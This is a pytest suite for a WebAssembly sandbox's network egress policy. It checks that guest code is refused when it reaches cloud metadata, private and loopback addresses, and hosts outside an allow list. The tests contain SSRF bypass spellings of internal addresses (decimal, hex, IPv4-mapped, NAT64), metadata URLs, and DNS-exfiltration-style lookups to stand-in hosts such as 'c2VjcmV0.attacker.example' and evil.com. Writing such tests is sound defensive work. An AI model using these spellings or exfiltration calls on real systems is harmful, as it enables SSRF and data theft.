"""The network policy as guest code meets it: real sockets in a real guest, loopback upstreams.

A refusal by the policy must say so ("network policy") and be the right exception type;
"unreachable" or the test fence's own refusal (DECLAW_WASM_EGRESS_LOOPBACK_ONLY) would mean the
policy let it through.
"""

from __future__ import annotations

import socket
from typing import Any, Callable

import pytest

from declaw_wasm import testing
from declaw_wasm import ALL_TRAFFIC

from . import addresses
from .conftest import PROBE, outcome
from .upstream import Upstreams

POLICY = "network policy"


pytestmark = pytest.mark.guest  # every test here starts guests (tests/conftest.py)


def refused_by_policy(result: dict[str, Any], kind: str = "") -> bool:
    return (not result["ok"] and result["oserror"] and POLICY in result["msg"]
            and "LOOPBACK_ONLY" not in result["msg"] and (not kind or result["type"] == kind))


def probe(sbx: Any, calls: dict[str, str]) -> dict[str, Any]:
    body = "\n".join(f"out[{name!r}] = attempt(lambda: {call})" for name, call in calls.items())
    return outcome(sbx, PROBE + "out = {}\n" + body + "\nprint(json.dumps(out))\n")


def test_allow_list_wildcards_and_allow_wins(make: Callable[..., Any], up: Upstreams) -> None:
    sbx = make(network={"allow_out": ["api.openai.com", "*.example.com"], "deny_out": [ALL_TRAFFIC]})
    got = probe(sbx, {
        "exact": "connect('api.openai.com', 443)", "sub": "connect('sub.example.com', 80)",
        "deep": "connect('deep.sub.example.com', 80)", "apex": "connect('example.com', 80)",
        "other": "connect('evil.com', 443)", "literal": f"connect_addr('127.0.0.1', {up.http.port})",
        "https": "get('https://sub.example.com/ok')[0]"})
    assert got["exact"]["ok"] and got["sub"]["ok"] and got["deep"]["ok"], got
    assert got["https"] == {"ok": True, "value": 200}
    assert refused_by_policy(got["apex"], "gaierror") and "allow_out" in got["apex"]["msg"]
    assert refused_by_policy(got["other"], "gaierror")
    assert refused_by_policy(got["literal"], "ConnectionRefusedError")

    # allow wins over deny, whatever the order
    sbx = make(network={"deny_out": ["127.0.0.0/8"], "allow_out": ["api.openai.com"]})
    got = probe(sbx, {"allowed": "connect('api.openai.com', 80)", "denied": "connect('other.example.com', 80)"})
    assert got["allowed"]["ok"] and refused_by_policy(got["denied"])


def test_deny_out_alone_and_ipv6(make: Callable[..., Any], up: Upstreams) -> None:
    sbx = make(network={"deny_out": ["127.0.0.0/8"]})
    got = probe(sbx, {"v4": "connect('api.openai.com', 80)", "v6": "get('http://v6.example/six')[0]"})
    assert refused_by_policy(got["v4"]) and "deny_out" in got["v4"]["msg"]
    assert got["v6"] == {"ok": True, "value": 200}  # the rest stays open (mapped: counts as allowed)

    sbx = make(network={"deny_out": [ALL_TRAFFIC]})
    got = probe(sbx, {"v6": "connect('v6.example', 80)", "v6-literal": f"connect_addr('::1', {up.http6.port})"})
    assert refused_by_policy(got["v6"]) and refused_by_policy(got["v6-literal"])

    sbx = make(network={"allow_out": ["::1/128"]})
    got = probe(sbx, {"v6": f"connect_addr('::1', {up.http6.port})",
                      "v4": f"connect_addr('127.0.0.1', {up.http.port})"})
    assert got["v6"]["ok"] and refused_by_policy(got["v4"])


def test_allow_internet_access_false_denies_everything(make: Callable[..., Any], up: Upstreams) -> None:
    sbx = make(allow_internet_access=False, network={"allow_out": ["api.openai.com"]})
    got = probe(sbx, {"name": "connect('api.openai.com', 443)",
                      "literal": f"connect_addr('127.0.0.1', {up.http.port})",
                      "requests": "__import__('requests').get('https://api.openai.com/', timeout=5)"})
    assert refused_by_policy(got["name"], "gaierror") and refused_by_policy(got["literal"])
    assert not got["requests"]["ok"] and POLICY in got["requests"]["msg"]
    assert up.records() == []


def test_metadata_is_denied_even_when_allow_listed(make: Callable[..., Any], up: Upstreams) -> None:
    """verify_security_primitives check 5, and every spelling of the address."""
    sbx = make(network={"allow_out": ["169.254.169.254/32", "169.254.0.0/16", ALL_TRAFFIC, "::/0"]})
    got = probe(sbx, {
        "plain": "connect_addr('169.254.169.254', 80)", "decimal": "connect('2852039166', 80)",
        "hex": "connect('0xa9.0xfe.0xa9.0xfe', 80)", "mapped": "connect_addr('::ffff:169.254.169.254', 80)",
        "nat64": "connect_addr('64:ff9b::a9fe:a9fe', 80)", "aws6": "connect_addr('fd00:ec2::254', 80)",
        "name": "connect('metadata.google.internal', 80)",
        "urllib": "get('http://169.254.169.254/latest/meta-data/')"})
    for name, result in got.items():
        assert refused_by_policy(result), (name, result)
        assert "metadata" in result["msg"], (name, result)
    denied = [e for e in sbx.audit_events() if e.decision == "denied"]
    assert len(denied) == len(got) and all(e.rule == "metadata" for e in denied)


def test_private_addresses_and_every_spelling(make: Callable[..., Any], up: Upstreams) -> None:
    spellings = ["127.0.0.1", "2130706433", "0x7f.1", "0x7f000001", "0177.0.0.1", "127.1",
                 "127.000.000.001", "::ffff:127.0.0.1"]
    calls = {s: f"connect({s!r}, {up.http.port})" for s in spellings}
    calls["10.x"] = "connect('10.0.0.1', 80)"
    calls["link-local"] = "connect('fe80::1%1', 80)"
    got = probe(make(), calls)
    for name, result in got.items():
        assert refused_by_policy(result), (name, result)
    # allowed by a CIDR naming the range: every spelling reaches the local server
    sbx = make(network={"allow_out": ["127.0.0.0/8"]})
    calls = {s: f"connect({s!r}, {up.http.port})" for s in spellings}
    calls["http"] = f"get('http://2130706433:{up.http.port}/spelled')[0]"
    calls["name"] = "connect('api.openai.com', 80)"  # a CIDR rule admits no names
    got = probe(sbx, calls)
    assert all(got[s]["ok"] for s in spellings), got
    assert got["http"] == {"ok": True, "value": 200}
    assert refused_by_policy(got["name"], "gaierror")


def test_a_name_resolving_to_a_private_address_is_denied(make: Callable[..., Any], up: Upstreams) -> None:
    sbx = make()
    answers = {"internal.example.net": ["10.1.2.3"], "mixed.example.net": ["93.184.216.34", "192.168.0.7"],
               "public.example.net": ["93.184.216.34"], "rebind.example.net": ["::ffff:127.0.0.1"]}

    def fake_dns(name: str) -> list[Any]:  # the host's DNS answers; the policy is what is tested
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, 0)) for a in answers[name]]

    testing.egress_of(sbx).resolver.system_lookup = fake_dns
    got = probe(sbx, {name: f"socket.getaddrinfo({name!r}, 80)[0][4][0]" for name in answers})
    assert refused_by_policy(got["internal.example.net"], "gaierror")
    assert "10.1.2.3" in got["internal.example.net"]["msg"]
    assert refused_by_policy(got["mixed.example.net"], "gaierror")
    assert refused_by_policy(got["rebind.example.net"], "gaierror")
    assert got["public.example.net"] == {"ok": True, "value": "93.184.216.34"}


def test_a_name_outside_an_allow_list_is_refused_without_a_dns_query(make: Callable[..., Any],
                                                                     up: Upstreams) -> None:
    sbx = make(network={"allow_out": ["api.openai.com"], "deny_out": [ALL_TRAFFIC]})
    asked: list[str] = []

    def system_lookup(name: str) -> list[Any]:
        asked.append(name)
        return []

    testing.egress_of(sbx).resolver.system_lookup = system_lookup
    got = probe(sbx, {"leak": "socket.getaddrinfo('c2VjcmV0.attacker.example', 443)",
                      "leak2": "socket.gethostbyname('data-123.evil.com')",
                      "connect": "connect('exfil.attacker.example', 443)"})
    assert all(refused_by_policy(r, "gaierror") for r in got.values()), got
    assert asked == [] and testing.egress_of(sbx).resolver.queries == 0
    dns = [e for e in sbx.audit_events() if e.kind == "dns"]
    assert {e.url for e in dns} == {"c2vjcmv0.attacker.example", "data-123.evil.com", "exfil.attacker.example"}
    assert all(e.decision == "denied" and e.rule == "not in allow_out" for e in dns)


def test_declaw_bug_04_and_verify_security_primitives(make: Callable[..., Any], up: Upstreams) -> None:
    """declaw #04: with allow_out=[api.openai.com], deny_out=[ALL_TRAFFIC], a raw connect to
    evil.com completed the TCP handshake. Here it fails at connect() with an OSError; HTTPS to
    it fails; the allow-listed host connects (verify_security_primitives checks 1 and 10)."""
    sbx = make(network={"allow_out": ["api.openai.com"], "deny_out": [ALL_TRAFFIC]})
    got = probe(sbx, {
        "evil": "connect('evil.com', 443)",
        "attacker": "connect('attacker.example.com', 443)",
        "https_evil": "get('https://evil.com/')",
        "openai": "connect('api.openai.com', 443)",
        "models": "get('https://api.openai.com/v1/models')[0]"})
    assert got["evil"]["oserror"] and not got["evil"]["ok"] and POLICY in got["evil"]["msg"]
    assert got["attacker"]["oserror"] and POLICY in got["attacker"]["msg"]
    assert not got["https_evil"]["ok"] and POLICY in got["https_evil"]["msg"]
    assert got["openai"]["ok"] and got["models"] == {"ok": True, "value": 200}
    assert {r.path for r in up.records()} == {"/v1/models"}
    kinds = [(e.kind, e.decision) for e in sbx.audit_events()]
    assert ("dns", "denied") in kinds and ("request", "allowed") in kinds


@pytest.mark.parametrize("mode", ["in-process", "processes"], indirect=True)
def test_ipv6_forms_are_judged_by_the_ipv4_address_they_carry(make: Callable[..., Any], up: Upstreams,
                                                             mode: str) -> None:
    """Every IPv6 form that carries an IPv4 address (mapped, translated, compatible, NAT64 and
    local-use NAT64 at each prefix length, 6to4, Teredo server and client), with a loopback,
    private, link-local or metadata address inside: refused by the default policy, as a literal
    destination and as a DNS answer (DECLAW_WASM_DNS_ANSWERS: judged like the host's DNS); the
    metadata ones as metadata. The same forms around a public address resolve."""
    cases = addresses.table()
    calls = {}
    for case, (address, _, _) in cases.items():
        calls["literal " + case] = f"connect_addr({address!r}, 80)"
        calls["dns " + case] = f"socket.getaddrinfo({addresses.dns_name(case)!r}, 80)[0][4][0]"
    for case in addresses.PUBLIC_FORMS:
        calls["public " + case] = f"socket.getaddrinfo({addresses.dns_name(case)!r}, 80)[0][4][0]"
    sbx = make()
    got = probe(sbx, calls)
    for name, result in got.items():
        how, case = name.split(" ", 1)
        if how == "public":
            assert result == {"ok": True, "value": addresses.PUBLIC_FORMS[case]}, (name, result)
            continue
        assert refused_by_policy(result, "gaierror" if how == "dns" else "ConnectionRefusedError"), (name, result)
        metadata = cases[case][2] == "metadata"
        assert ("cloud metadata address" in result["msg"]) == metadata, (name, result)
    denied = [e for e in sbx.audit_events() if e.decision == "denied"]
    assert len(denied) == 2 * len(cases)
    assert sum(e.rule == "metadata" for e in denied) == 2 * len(addresses.FORMS)
    assert up.records() == []
